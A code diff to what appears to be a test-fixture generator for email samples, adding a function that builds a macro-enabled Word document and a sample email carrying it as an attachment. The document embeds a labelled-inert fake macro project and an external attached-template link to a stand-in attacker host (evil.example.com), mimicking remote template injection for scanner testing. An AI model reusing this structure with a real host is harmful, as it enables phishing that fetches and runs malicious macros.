@@ -287,6 +287,50 @@ def active_pdf():
     return out
 
 
+def macro_docm():
+    """A minimal Word macro-enabled document: a paragraph, a (fake, inert)
+    vbaProject.bin with its relationship, and a remote template."""
+    W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    R = "http://schemas.openxmlformats.org/package/2006/relationships"
+    OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    parts = [
+        ("[Content_Types].xml",
+         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+         '<Default Extension="xml" ContentType="application/xml"/>'
+         '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+         '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
+         '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
+         '</Types>'),
+        ("_rels/.rels",
+         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="%s">'
+         '<Relationship Id="rId1" Type="%s/officeDocument" Target="word/document.xml"/></Relationships>' % (R, OD)),
+        ("word/document.xml",
+         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="%s"><w:body>'
+         '<w:p><w:r><w:t>DOCM-VISIBLE-TEXT 見積もりのご案内</w:t></w:r></w:p></w:body></w:document>' % W),
+        ("word/settings.xml",
+         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="%s" xmlns:r="%s">'
+         '<w:attachedTemplate r:id="rId1"/></w:settings>' % (W, OD)),
+        ("word/_rels/document.xml.rels",
+         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="%s">'
+         '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
+         '<Relationship Id="rId2" Type="%s/settings" Target="settings.xml"/></Relationships>' % (R, OD)),
+        ("word/_rels/settings.xml.rels",
+         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="%s">'
+         '<Relationship Id="rId1" Type="%s/attachedTemplate" Target="https://evil.example.com/t.dotm" TargetMode="External"/>'
+         '</Relationships>' % (R, OD)),
+    ]
+    buf = BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        for name, text in parts:
+            info = zipfile.ZipInfo(name, date_time=(2024, 11, 14, 10, 30, 0))
+            z.writestr(info, text.encode("utf-8"), zipfile.ZIP_DEFLATED)
+        info = zipfile.ZipInfo("word/vbaProject.bin", date_time=(2024, 11, 14, 10, 30, 0))
+        z.writestr(info, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 24 + b"Attribute VB_Name = Auto_Open (inert)")
+    return buf.getvalue()
+
+
 def png_1x1():
     def chunk(kind, payload):
         return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))
@@ -857,6 +901,16 @@ def _():
                       b64_lines(active_pdf()) + "\r\n")
     lines = head(314, b_word("見積書"), extra=['Content-Type: multipart/mixed; boundary="b314"'])
     return message(lines, multipart("b314", [text_part("見積書をお送りします。\n"), attachment]))
+
+
+@sample("315-docm-macro")
+def _():
+    attachment = part(['Content-Type: application/vnd.ms-word.document.macroEnabled.12; name="%s"' % b_word("マクロ.docm"),
+                       "Content-Transfer-Encoding: base64",
+                       'Content-Disposition: attachment; filename="%s"' % b_word("マクロ.docm")],
+                      b64_lines(macro_docm()) + "\r\n")
+    lines = head(315, b_word("資料（マクロ付き）"), extra=['Content-Type: multipart/mixed; boundary="b315"'])
+    return message(lines, multipart("b315", [text_part("マクロ付きの資料です。\n"), attachment]))
 
 
 @sample("312-image-attachments")
